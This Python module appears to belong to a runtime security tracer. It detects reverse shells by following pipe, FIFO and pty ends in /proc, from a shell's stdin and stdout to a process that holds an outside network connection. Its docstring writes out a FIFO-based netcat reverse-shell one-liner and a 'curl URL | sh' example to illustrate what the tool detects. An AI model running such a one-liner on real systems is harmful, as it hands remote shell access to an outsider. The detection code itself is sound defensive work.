"""Shells wired to the network through pipes and FIFOs, such as
`cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`, where only the helper holds the socket.

A shell or interpreter that reads its commands from stdin (tracer.detect.argv) is a candidate while it
lives. When the episode's processes may have changed the shape of its pipeline (the shell starts, a
process of the episode connects out, the first bytes of a flow go by), the pipe and FIFO ends that
the episode's processes hold are read from /proc (through the capture: replay sees the same answers)
and followed:
  - upstream from the shell's stdin, through the processes that write into each pipe, to a process
    that holds a connection to a non-local address;
  - downstream from its stdout and stderr, through the processes that read each pipe, to a process
    that holds one.
When the same process (or the same socket) is found both ways, the network drives the shell: a
PipedShell goes to the detectors. `curl URL | sh` is fed by the network, but its output does not go
back to curl: no finding.
"""
from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass
from typing import Callable

from ..decoding import is_loopback
from ..detect.argv import reads_commands_from_stdin
from ..events import Endpoint, Episode, NetworkEvent, PayloadSeen, PipedShell, Process, ProcessEvent
from ..procfs import OpenFile

MAX_HOPS = 6                   # processes followed along one pipe chain
MAX_SHELLS = 256               # candidate shells remembered per episode
SCAN_INTERVAL_NS = 100_000_000  # an episode's pipes are read at most this often; a scan put off runs at the sweep
RESCAN_INTERVAL_NS = 5_000_000_000  # and at least this often while it has candidate shells: rewiring needs no trigger
CONNECTED = {"established", "syn_sent"}          # a connected UDP socket shows as established too
TRIGGERS = ("connection_established", "connection_attempted")
# what carries bytes between processes and is followed: pipes, FIFOs, and ptys (master and slave share the
# pty's index, both sides read and write: a pty wrapper such as `script -qc sh` or pty.spawn is one hop)
ENDS = ("pipe", "fifo", "pty")


@dataclass(slots=True)
class Connection:
    """A connection to a non-local address, held by a process on one of its descriptors."""
    pid: int
    inode: str
    transport: str
    local: Endpoint
    remote: Endpoint


def is_outside(remote: Endpoint | None) -> bool:
    return remote is not None and bool(remote.ip) and bool(remote.port) and not is_loopback(remote.ip) \
        and remote.ip not in ("0.0.0.0", "::")


def wiring(shell: int, files: dict[int, list[OpenFile]], connections: dict[int, list[Connection]],
           names: Callable[[int], str] = lambda pid: "?") -> tuple[Connection, str, str] | None:
    """(the connection, how the shell's stdin is fed, where its output goes) when a process holding a
    connection to a non-local address both feeds the shell's stdin and gets its stdout or stderr."""
    stdio = {fd: (kind, ident, mode) for fd, kind, ident, mode in files.get(shell, ()) if fd <= 2}
    if stdio.get(0, ("other",))[0] not in ENDS + ("socket",):
        return None       # a console, a file, /dev/null, or closed: not fed from anywhere else
    ends: dict[tuple[str, str], list[tuple[int, str]]] = defaultdict(list)
    for pid, held in files.items():
        for fd, kind, ident, mode in held:
            if kind in ENDS:
                ends[(kind, ident)].append((pid, mode))
    feeders = _walk(shell, [stdio[0]], "w", ends, files, connections, names)
    if not feeders:
        return None
    backs = _walk(shell, [stdio[fd] for fd in (1, 2) if fd in stdio], "r", ends, files, connections, names)
    for conn_in, feed in feeders.values():
        for conn_out, back in backs.values():
            if conn_in.pid == conn_out.pid or conn_in.inode == conn_out.inode:
                return conn_in, feed, back
    return None


def _walk(shell: int, start: list[tuple[str, str, str]], other_side: str,
          ends: dict[tuple[str, str], list[tuple[int, str]]], files: dict[int, list[OpenFile]],
          connections: dict[int, list[Connection]],
          names: Callable[[int], str]) -> dict[tuple[int, str], tuple[Connection, str]]:
    """The connections reached from the shell's ends: upstream (other_side "w": the writers of each pipe,
    then the pipes they read) or downstream ("r": the readers, then the pipes they write)."""
    found: dict[tuple[int, str], tuple[Connection, str]] = {}   # (pid, inode) -> (connection, the path)
    own = {c.inode: c for c in connections.get(shell, ())}
    queue = [(end, 0, "") for end in start]
    seen_ends: set[tuple[str, str]] = set()
    seen_pids = {shell}
    while queue:
        (kind, ident, _mode), hops, path = queue.pop(0)
        if kind == "socket":
            if ident in own:
                found.setdefault((shell, ident), (own[ident], f"{path}socket:[{ident}] of the shell itself"))
            continue
        if kind not in ENDS or (kind, ident) in seen_ends or hops >= MAX_HOPS:
            continue
        seen_ends.add((kind, ident))
        label = f"{path}{kind}:[{ident}]"
        for pid, mode in ends.get((kind, ident), ()):
            if other_side not in mode or pid in seen_pids:
                continue
            seen_pids.add(pid)
            step = f"{label} {'<-' if other_side == 'w' else '->'} {names(pid)} (pid {pid})"
            held = connections.get(pid)
            if held:
                for conn in held:
                    found.setdefault((pid, conn.inode), (conn, step))
                continue
            # not the network yet: follow what this process reads (upstream) or writes (downstream)
            want = "r" if other_side == "w" else "w"
            queue += [((k, i, m), hops + 1, step + " " + ("<- " if want == "r" else "-> "))
                      for _fd, k, i, m in files.get(pid, ()) if k in ENDS and want in m]
    return found


class PipeShells:
    """Candidate shells per episode, and the scans of their pipelines (see the module's docstring)."""

    def __init__(self, proc, observe: Callable[[PipedShell], None],
                 lookup: Callable[[int], Process | None] = lambda pid: None) -> None:
        self.proc = proc                    # tracer.procfs, a capture Recorder, or a replay's Answers
        self.observe = observe
        self.lookup = lookup                # the state's processes, for names
        self._shells: dict[str, dict[int, tuple[Process, int, str]]] = {}   # (shell, its cgroup id and path)
        self._episodes: dict[str, Episode] = {}
        self._last_scan: dict[str, int] = {}
        self._pending: set[str] = set()
        self.scans = 0

    def on_event(self, event) -> None:
        if isinstance(event, ProcessEvent):
            self._on_process(event)
        elif isinstance(event, NetworkEvent):
            if event.action in TRIGGERS and event.outcome != "failure" and is_outside(event.destination):
                self._trigger(event.episode.id, event.timestamp_ns)
        elif isinstance(event, PayloadSeen):
            peer = event.destination if event.egress else event.source
            if event.transport == "tcp" and is_outside(peer):
                self._trigger(event.episode.id, event.timestamp_ns)

    def _on_process(self, event: ProcessEvent) -> None:
        episode_id, proc = event.episode.id, event.process
        shells = self._shells.get(episode_id)
        if event.action == "process_ended" or not reads_commands_from_stdin(proc.args, proc.executable):
            if shells and shells.pop(proc.pid, None) is not None and not shells:
                self._forget(episode_id)
            return
        if shells is None:
            shells = self._shells[episode_id] = {}
        if len(shells) >= MAX_SHELLS:
            shells.pop(next(iter(shells)))
        shells[proc.pid] = (proc, event.cgroup_id, event.cgroup_path)
        self._episodes[episode_id] = event.episode
        self._trigger(episode_id, event.timestamp_ns)   # a new shell (a loop of them: rate-limited too)

    def forget_episode(self, episode_id: str) -> None:
        """The episode is no longer traced: its shells will send no process_ended."""
        self._forget(episode_id)

    def _forget(self, episode_id: str) -> None:
        for table in (self._shells, self._episodes, self._last_scan):
            table.pop(episode_id, None)
        self._pending.discard(episode_id)

    def _trigger(self, episode_id: str, ts_ns: int) -> None:
        if episode_id not in self._shells:
            return
        if ts_ns - self._last_scan.get(episode_id, -SCAN_INTERVAL_NS) < SCAN_INTERVAL_NS:
            self._pending.add(episode_id)
            return
        self._scan(episode_id, ts_ns)

    def flush(self, now_ns: int) -> None:
        """Scans put off by the rate limit, and those of episodes not scanned for RESCAN_INTERVAL_NS (the
        sweep calls this: about every 250 ms)."""
        due = {e for e in self._shells if now_ns - self._last_scan.get(e, now_ns) >= RESCAN_INTERVAL_NS}
        for episode_id in sorted(self._pending | due):
            self._scan(episode_id, now_ns)

    def _scan(self, episode_id: str, ts_ns: int) -> None:
        self._pending.discard(episode_id)
        self._last_scan[episode_id] = ts_ns
        shells = self._shells.get(episode_id)
        if not shells:
            return
        self.scans += 1
        episode = self._episodes[episode_id]
        files: dict[int, list[OpenFile]] = {}
        for pid in list(shells):
            held = self.proc.open_files(pid)
            if held is None:
                shells.pop(pid)         # gone
            else:
                files[pid] = held
        if not shells:
            self._forget(episode_id)
            return
        # only a shell whose stdin is a pipe, FIFO or socket needs the rest of the episode
        if not any(kind in ENDS + ("socket",) for held in files.values()
                   for fd, kind, _i, _m in held if fd == 0):
            return
        for pid in self.proc.episode_pids(episode.cgroup_path):
            if pid not in files:
                held = self.proc.open_files(pid)
                if held is not None:
                    files[pid] = held
        connections: dict[int, list[Connection]] = {}
        for pid, held in files.items():
            inodes = {ident for _fd, kind, ident, _m in held if kind == "socket"}
            if not inodes:
                continue
            for inode, (transport, local, remote, state) in sorted(self.proc.inet_sockets(pid, inodes).items()):
                if state in CONNECTED and is_outside(remote):
                    connections.setdefault(pid, []).append(Connection(pid, inode, transport, local, remote))
        names: dict[int, str] = {}
        for pid, (shell, cgroup_id, cgroup_path) in list(shells.items()):
            found = wiring(pid, files, connections, lambda p: names.get(p) or names.setdefault(p, self._name(p)))
            if found is None:
                continue
            conn, feed, back = found
            shells.pop(pid)         # reported: no more scans for it
            # dated when /proc showed it: the record that led here may be older than the connection
            self.observe(PipedShell(max(ts_ns, self.proc.wall_ns()), episode, cgroup_id, cgroup_path, shell,
                                    conn.pid, names.get(conn.pid) or self._name(conn.pid), feed, back, conn.transport, conn.local, conn.remote))
        if not shells:
            self._forget(episode_id)

    def _name(self, pid: int) -> str:
        """What runs there now: /proc is newer than the state (a forked shell may have exec'd nc since)."""
        proc = self.proc.process_info(pid) or self.lookup(pid)
        return proc.name if proc is not None and proc.name else "?"
